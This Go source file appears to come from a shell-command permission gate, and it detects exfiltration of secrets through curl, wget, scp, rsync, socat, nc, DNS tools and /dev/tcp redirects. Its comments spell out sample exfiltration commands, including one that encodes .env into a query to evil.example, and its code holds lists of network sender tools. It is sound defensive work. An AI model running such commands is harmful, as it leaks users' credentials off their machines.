package flow

import (
	"slices"
	"strings"

	"github.com/permgate/permgate/effect"
	"github.com/permgate/permgate/finding"
	"github.com/permgate/permgate/internal/lazy"
	"github.com/permgate/permgate/places"
	"github.com/permgate/permgate/registry"
	"github.com/permgate/permgate/shellparse"
)

// Exfiltration: a secret sent off the machine. The secret is a file
// secret_access names (by any spelling), or the environment (env, printenv),
// and it leaves through an upload option (curl -d @FILE, -F f=@FILE, -T FILE,
// wget --post-file), a copy to a remote (scp, rsync, sftp), or standard input
// fed to a program that sends it (curl @-, nc, socat, ssh, mail …) by a pipe,
// a redirect or a here-string.

// Sender reports a program (by basename) that sends what it reads on
// standard input over the network.
func Sender(name string) bool {
	switch name {
	case "nc", "ncat", "netcat", "socat", "telnet", "openssl", "ssh", "mail", "mailx", "sendmail",
		"mutt", "http", "https", "xh", "xhs", "ftp", "tftp", "sftp":
		return true
	}
	return false
}

// report records a finding with no safer way.
func report(h Host, kind finding.Kind, name, reason string) {
	h.Report(kind, name, finding.Severe, reason, "")
}

// exfil judges one command for secrets sent off the machine.
func (s *State) exfil(h Host, c shellparse.SimpleCommand) {
	s.reverseShell(h, c)
	if len(c.Argv) == 0 {
		return
	}
	base := baseName(c)
	stdin := s.stdinSecret(h, c)
	if !s.sendsOut(h, c, base, stdin) {
		redirectExfil(h, c, stdin)
	}
}

// sendsOut judges what a program sends by its words and its input: a
// substitution that carries a secret, the files it sends or uploads, sftp's
// batch, the words a wrapper fills from a secret, and a sender's standard
// input. It reports a finding.
func (s *State) sendsOut(h Host, c shellparse.SimpleCommand, base string, stdin bool) bool {
	sender := Sender(base) && (base != "openssl" || opensslConnects(c))
	network := sender || Downloader(base) || isDNSTool(base)
	if network && s.substSent(h, c, base) {
		return true
	}
	if !sender && sendsSecretFile(h, c, base, stdin) || uploadsSecret(h, c, base, stdin) || sftpBatchSecret(h, c, base) {
		return true
	}
	if (network || fileSenders.Get()[base]) && filledFromSecret(h, c, base, stdin) {
		return true
	}
	return sender && senderSecret(h, c, base, stdin)
}

// redirectExfil: anything written to /dev/tcp or /dev/udp leaves the machine.
func redirectExfil(h Host, c shellparse.SimpleCommand, stdin bool) {
	for _, r := range c.Redirects {
		if r.Writes() && NetDevice(r.Target.Text) && (stdin || h.FlowReadsSecret() || printsEnvironment(h, c)) {
			report(h, finding.Exfiltration, "redirect_secret", "sends a secret to "+r.Target.Text)
			return
		}
	}
}

// substSent judges curl -d "$(cat .env)" URL and dig "$(base64 < .env).evil.example":
// a substitution that carries a secret into what the program sends.
func (s *State) substSent(h Host, c shellparse.SimpleCommand, base string) bool {
	for _, a := range c.Argv[1:] {
		if (a.Subst || a.ProcSubst) && s.substCarriesSecret(a) || s.carriesSecretVar(a.Params) {
			report(h, finding.Exfiltration, "send_secret", base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
			return true
		}
	}
	return false
}

// sendsSecretFile judges the files a command's declaration says it sends
// (curl -T FILE, -d @FILE, -F f=@FILE; wget --post-file; gh gist create
// FILES; mail -a FILE; http URL field@FILE) and standard input sent when it
// holds a secret (curl -d @-).
func sendsSecretFile(h Host, c shellparse.SimpleCommand, base string, stdin bool) bool {
	if !fileSenders.Get()[base] {
		return false // the cloud CLIs' uploads are judged with the clouds
	}
	for _, t := range commandEffects(c) {
		if t.act != registry.Sends {
			continue
		}
		if v := secretParam(t.word.Params); v != "" {
			report(h, finding.Exfiltration, "send_secret_var", base+" sends $"+v+", which looks like a secret, off the machine")
			return true
		}
		w, ok := sentFile(base, t)
		switch {
		case !ok:
		case stdinName(base, w.Text):
			if stdin && sentStdin(h, base) {
				return true
			}
		case environFile(w):
			report(h, finding.Exfiltration, "send_environ", base+" sends "+w.Text+", a process's environment with its secrets, off the machine")
			return true
		case h.FlowSecretWord(w, false):
			sentSecret(h, base, t.word.Text)
			return true
		}
	}
	return false
}

// fileSenders are the programs whose sent files sendsSecretFile judges.
var fileSenders = lazy.Value[map[string]bool]{Make: func() map[string]bool {
	return map[string]bool{"curl": true, "wget": true, "wget2": true, "gh": true, "mail": true, "mailx": true, "mutt": true,
		"http": true, "https": true, "xh": true}
}}

// sentFile returns the file a sent word names: curl's data names one after
// @ or < (@FILE, NAME@FILE, NAME=@FILE, NAME=<FILE;type=…), an HTTPie item
// one after @; the other programs send the file the word names.
func sentFile(base string, t effectTarget) (shellparse.Word, bool) {
	w := t.word
	switch base {
	case "curl":
		if !slices.Contains(registry.CurlUploads.Get(), t.opt) {
			at := strings.IndexAny(w.Text, "@<")
			if at < 0 {
				return w, false
			}
			w.Text = w.Text[at+1:]
		}
		w.Text, _, _ = strings.Cut(w.Text, ";") // -F f=@file;type=text/plain
	case "http", "https", "xh", "xhs":
		return w, strings.Contains(w.Text, "@")
	case "wget", "wget2":
		return w, t.opt == "--post-file" || t.opt == "--body-file" // --post-data is the data itself
	}
	return w, true
}

// stdinName reports a file name that is standard input: -, /dev/stdin, and
// for curl also ".".
func stdinName(base, t string) bool {
	return t == "-" || shellparse.IsStdinPath(t) || base == "curl" && t == "."
}

// sentStdin adds the finding for a program that sends its standard input,
// which holds a secret, and reports whether it did.
func sentStdin(h Host, base string) bool {
	switch base {
	case "curl":
		report(h, finding.Exfiltration, "curl_stdin_secret", "curl sends its standard input, which holds secrets, to a server")
	case "wget", "wget2":
		report(h, finding.Exfiltration, "wget_post_secret", "wget sends its standard input, which holds secrets, to a server")
	case "gh":
		report(h, finding.Exfiltration, "gist_secret", "gh gist create uploads its standard input, which holds secrets")
	default:
		return false
	}
	return true
}

// sentSecret adds the finding for a program that sends a secret file.
func sentSecret(h Host, base, what string) {
	switch base {
	case "curl":
		report(h, finding.Exfiltration, "curl_secret", "curl sends "+what+", which holds secrets, to a server")
	case "wget", "wget2":
		report(h, finding.Exfiltration, "wget_post_secret", "wget sends "+what+", which holds secrets, to a server")
	case "gh":
		report(h, finding.Exfiltration, "gist_secret", "gh gist create uploads "+what+", which holds secrets")
	case "mail", "mailx", "mutt":
		report(h, finding.Exfiltration, "mail_secret", base+" mails "+what+", which holds secrets")
	default:
		report(h, finding.Exfiltration, "send_file_secret", base+" sends "+what+", which holds secrets")
	}
}

// uploadsSecret judges copies to a remote: scp, rsync, sftp and rclone, and
// aws s3 and gsutil copying a secret (or standard input holding one) to a
// bucket.
func uploadsSecret(h Host, c shellparse.SimpleCommand, base string, stdin bool) bool {
	switch base {
	case "scp", "rsync", "sftp", "rclone":
		return copyExfil(h, c, base)
	case "aws", "gsutil":
		return bucketUpload(h, c, base, stdin)
	}
	return false
}

// bucketUpload judges aws s3 and gsutil copying a secret (or standard input
// holding one) to a bucket.
func bucketUpload(h Host, c shellparse.SimpleCommand, base string, stdin bool) bool {
	r, ok := readingOf(c)
	ops := r.Operands()
	if !ok || len(ops) < 2 || base == "aws" && (len(r.Path()) == 0 || r.Path()[0] != "s3") {
		return false
	}
	src, dst := ops[len(ops)-2], ops[len(ops)-1]
	if strings.Contains(dst.Text, "://") && (h.FlowSecretWord(src, true) || stdin && src.Text == "-") {
		report(h, finding.Exfiltration, "upload_secret", base+" uploads "+src.Text+", which holds secrets")
		return true
	}
	return false
}

// sftpBatchSecret judges sftp's batch commands on its input: put FILE sends it.
func sftpBatchSecret(h Host, c shellparse.SimpleCommand, base string) bool {
	if base != "sftp" || c.Stdin.Kind != shellparse.InputHereString && c.Stdin.Kind != shellparse.InputHereDoc {
		return false
	}
	for _, line := range strings.Split(c.Stdin.Text, "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || f[0] != "put" && f[0] != "mput" && f[0] != "reput" {
			continue
		}
		for _, name := range f[1:] {
			if !strings.HasPrefix(name, "-") && h.FlowSecretWord(shellparse.Word{Text: name, Static: true}, true) {
				report(h, finding.Exfiltration, "sftp_secret", "sftp puts "+name+", which holds secrets, on a remote host")
				h.Report(finding.SecretAccess, "sftp_reads_secret", finding.NonSevere, "sftp reads "+name+", which holds secrets, to put it", "")
				return true
			}
		}
	}
	return false
}

// senderSecret judges a program that sends what it reads: standard input
// that holds a secret, a secret file among socat's addresses, and the files
// its declaration says it sends (mail -a, http field@FILE).
func senderSecret(h Host, c shellparse.SimpleCommand, base string, stdin bool) bool {
	if stdin {
		report(h, finding.Exfiltration, "send_stdin_secret", base+" sends what it reads, which holds secrets, off the machine")
		return true
	}
	if base == "socat" {
		for _, a := range operandsOf(c) {
			if file, ok := socatFile(a); ok && h.FlowSecretWord(file, false) {
				report(h, finding.Exfiltration, "socat_secret", "socat sends "+a.Text+", which holds secrets, over a connection")
				return true
			}
		}
	}
	return sendsSecretFile(h, c, base, false)
}

// socatFile returns the file a socat address opens (OPEN:, FILE:, GOPEN:,
// CREATE:).
func socatFile(a shellparse.Word) (shellparse.Word, bool) {
	addr := strings.ToLower(a.Text)
	for _, kind := range []string{"open:", "file:", "gopen:", "create:"} {
		if strings.HasPrefix(addr, kind) {
			return shellparse.Word{Text: a.Text[len(kind):], Static: a.Static}, true
		}
	}
	return a, false
}

// copyExfil: scp, rsync, sftp and rclone copying a secret to a remote. rclone
// copies only with a copying verb (copy, sync, move …).
func copyExfil(h Host, c shellparse.SimpleCommand, name string) bool {
	files := operandsOf(c)
	if name == "rclone" {
		if r, ok := readingOf(c); !ok || len(r.Path()) == 0 {
			return false
		}
	}
	if len(files) < 2 {
		return false
	}
	dst := files[len(files)-1]
	if !remotePath(dst.Text) && !strings.Contains(dst.Text, "://") {
		return false
	}
	for _, src := range files[:len(files)-1] {
		if remotePath(src.Text) {
			continue
		}
		if h.FlowSecretWord(src, true) {
			report(h, finding.Exfiltration, "copy_secret", name+" copies "+src.Text+", which holds secrets, to "+dst.Text)
			return true
		}
	}
	return false
}

// opensslConnects reports an openssl command that talks to a server
// (s_client, s_time, or a verb known only at run time); openssl x509, enc,
// dgst … only read and print.
func opensslConnects(c shellparse.SimpleCommand) bool {
	_, inv, ok := c.Declared()
	return ok && (inv.DynamicVerb || slices.Contains(inv.Node.Does, effect.NetworkOutbound))
}

// isDNSTool reports a program that sends the names it is given to name
// servers and hosts.
func isDNSTool(name string) bool {
	switch name {
	case "dig", "nslookup", "host", "ping", "ping6", "traceroute", "drill", "kdig":
		return true
	}
	return false
}

// remotePath reports host:path (not a local path that holds a colon after a slash).
func remotePath(t string) bool {
	i := strings.Index(t, ":")
	return i > 0 && !strings.Contains(t[:i], "/")
}

// environFile reports a process's environment file (/proc/self/environ,
// /proc/1/environ): the variables, secrets among them, that env prints.
func environFile(w shellparse.Word) bool {
	return w.Static && strings.HasPrefix(w.Text, "/proc/") && strings.HasSuffix(w.Text, "/environ")
}

// secretParam returns the first parameter whose name says it holds a
// secret (GITHUB_TOKEN), or "".
func secretParam(params []string) string {
	for _, p := range params {
		if places.SecretVar(p) {
			return p
		}
	}
	return ""
}

// inputFillers are the wrappers that fill the command's words from what
// they read (xargs, parallel): from standard input, or from the files their
// declarations say they read (-a FILE).
var inputFillers = lazy.Value[map[string]bool]{Make: func() map[string]bool {
	return map[string]bool{"xargs": true, "parallel": true}
}}

// filledFromSecret reports a command whose words a wrapper fills from input
// that holds a secret: a pipe or redirect carrying one (stdin), or a secret
// file the wrapper reads (xargs -a ~/.aws/credentials).
func filledFromSecret(h Host, c shellparse.SimpleCommand, base string, stdin bool) bool {
	for _, w := range c.Wrappers {
		if inputFillers.Get()[w.Name] && (stdin || readsSecret(h, w)) {
			report(h, finding.Exfiltration, "send_filled_secret", base+" is given words read from a secret and sends them off the machine")
			return true
		}
	}
	return false
}

// readsSecret reports a wrapper that reads a secret file its declaration
// says it reads (xargs -a FILE).
func readsSecret(h Host, w shellparse.Wrapper) bool {
	for _, t := range commandEffects(shellparse.SimpleCommand{Name: w.Name, Argv: w.Argv}) {
		if t.act == registry.Reads && h.FlowSecretWord(t.word, true) {
			return true
		}
	}
	return false
}
